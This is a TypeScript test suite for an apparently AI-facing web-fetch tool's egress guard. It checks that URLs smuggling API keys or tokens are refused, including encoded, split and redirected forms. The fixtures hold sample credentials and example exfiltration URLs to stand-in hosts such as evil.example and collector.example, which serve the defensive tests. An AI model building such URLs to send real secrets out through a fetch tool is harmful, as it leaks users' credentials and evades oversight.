import { describe, expect, it } from "vitest";
import { ok } from "../../shared/model/result.ts";
import { DEFAULT_ADDRESS_POLICY } from "../model/address-policy.ts";
import { buildSecretWindows, type SecretWindows } from "../model/secret-windows.ts";
import { attackUrls, INNOCENT_URLS, nearMissUrls } from "../model/secret-spellings.test-support.ts";
import { ScriptedDnsResolver } from "../../../adapters/fake/scripted-dns-resolver.ts";
import { ScriptedPinnedHttp, type ScriptedPage } from "../../../adapters/fake/scripted-pinned-http.ts";
import type { Clock } from "../../../ports/clock.ts";
import type { PageExtractor } from "../../../ports/page-extractor.ts";
import { webFetch, type WebFetchDeps } from "./web-fetch.ts";

const SECRETS = [
  "sk-ant-api03-Zq8xV2mN4pL7wR1tY6uI9oP3aS5dF0gH-jK2lQ8zX",
  "ghp_4f9Tq2LmZ8vR1xN6bW3yK7pJ0sD5hG2cE9aU",
  "correct horse battery staple, pässwörd 42!",
];
const SALT = new Uint8Array(32).map((_, i) => (i * 37 + 11) % 256);
const guard: SecretWindows = buildSecretWindows(SECRETS, SALT).windows;
const PUBLIC = { status: 200, contentType: "text/plain", body: "public page" } satisfies ScriptedPage;

const clock: Clock = {
  now: () => 0,
  monotonic: () => 0,
  after: () => ({ cancel() {} }),
  every: () => ({ cancel() {} }),
};
const extractor: PageExtractor = { extract: (request) => ok(request.text) };

function world(pages: Record<string, ScriptedPage> = {}) {
  const answers = new Proxy({}, { get: () => [["93.184.216.34"]] });
  const dns = new ScriptedDnsResolver(answers);
  const http = new ScriptedPinnedHttp({ resolver: dns, policy: DEFAULT_ADDRESS_POLICY, pages });
  const deps: WebFetchDeps = { http, extractor, clock, policy: DEFAULT_ADDRESS_POLICY, egressGuard: ok(guard) };
  return { deps, http, dns };
}

/** ScriptedPinnedHttp serves pages by URL without query and fragment. */
const pageKey = (url: string) => new URL(url).href.replace(/[?#].*$/, "");

describe("fusion_web_fetch egress guard: a credential in the URL is never sent", () => {
  it.each(SECRETS)("refuses every generated spelling of %j with zero DNS lookups and zero requests", async (secret) => {
    const urls = attackUrls(secret);
    expect(urls.length).toBeGreaterThanOrEqual(200);
    const { deps, http, dns } = world();
    const missed: string[] = [];
    for (const url of urls) {
      const result = await webFetch({ url }, deps);
      if (result.ok || result.error.code !== "secret_in_url") missed.push(url);
      else {
        expect(result.error).toEqual({ code: "secret_in_url", message: expect.any(String) });
        expect(result.error.message).not.toContain(url);
        expect(result.error.message).not.toContain(secret);
      }
    }
    expect(missed).toEqual([]);
    expect(dns.calls).toEqual([]);
    expect(http.requests).toEqual([]);
  });

  it("refuses a redirect whose target carries the credential, before resolving or requesting it", async () => {
    const spelled = Buffer.from(SECRETS[0] ?? "").toString("base64url");
    const { deps, http, dns } = world({
      "https://open.example/go": { status: 302, location: `https://collector.example/c?d=${spelled}` },
    });
    const result = await webFetch({ url: "https://open.example/go" }, deps);
    expect(result).toEqual({ ok: false, error: { code: "secret_in_url", message: expect.any(String) } });
    expect(dns.calls).toEqual(["open.example"]);
    expect(http.requests.map((r) => r.url)).toEqual(["https://open.example/go"]);
  });

  it("refuses a credential that only the URL parser assembles (tabs and newlines are dropped)", async () => {
    const secret = SECRETS[1] ?? "";
    const url = `https://evil.example/${secret.slice(0, 8)}\t${secret.slice(8, 20)}\n${secret.slice(20)}`;
    const { deps, http, dns } = world();
    const result = await webFetch({ url }, deps);
    expect(!result.ok && result.error.code).toBe("secret_in_url");
    expect([dns.calls, http.requests]).toEqual([[], []]);
  });
});

describe("fusion_web_fetch egress guard: near misses pass", () => {
  const innocent = [...SECRETS.flatMap(nearMissUrls), ...INNOCENT_URLS];
  it(`fetches all ${innocent.length} URLs that carry no whole window of a credential`, async () => {
    const pages = Object.fromEntries(innocent.map((url) => [pageKey(url), PUBLIC]));
    const { deps, http } = world(pages);
    const refused: string[] = [];
    for (const url of innocent) {
      const result = await webFetch({ url }, deps);
      if (!result.ok) refused.push(`${result.error.code}: ${url}`);
    }
    expect(refused).toEqual([]);
    expect(http.requests).toHaveLength(innocent.length);
  });

  it("fetches as before when no windows are given", async () => {
    const { deps, http } = world({ "https://evil.example/": PUBLIC });
    const { egressGuard: _, ...unguarded } = deps;
    const url = `https://evil.example/?k=${SECRETS[0]}`;
    expect((await webFetch({ url }, unguarded)).ok).toBe(true);
    expect(http.requests).toHaveLength(1);
  });
});
